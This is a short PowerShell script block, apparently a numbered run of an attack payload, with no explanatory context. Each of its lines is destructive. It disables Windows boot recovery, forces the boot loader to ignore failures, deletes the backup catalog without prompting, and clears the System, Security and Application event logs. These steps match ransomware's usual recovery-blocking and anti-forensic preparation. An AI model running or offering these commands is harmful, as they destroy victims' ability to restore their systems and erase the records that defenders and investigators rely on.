[ScriptBlock]::Create('# run 6734 v2
bcdedit /set {default} recoveryenabled No
bcdedit /set {default} bootstatuspolicy ignoreallfailures
wbadmin delete catalog -quiet
wevtutil cl System; wevtutil cl Security; wevtutil cl Application
').Invoke()